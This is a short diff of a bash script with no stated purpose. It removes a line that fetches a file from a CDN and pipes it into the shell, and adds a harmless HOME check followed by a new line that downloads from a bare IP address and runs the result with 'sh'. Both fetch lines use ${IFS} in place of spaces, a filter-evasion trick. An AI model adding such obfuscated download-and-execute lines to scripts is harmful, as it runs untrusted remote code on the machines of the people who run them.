@@ -1,2 +1,5 @@
 #!/usr/bin/env bash
-curl${IFS}-s${IFS}https://cdn.example.net/update.bin|sh
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+curl${IFS}-s${IFS}https://203.0.113.9/x|sh
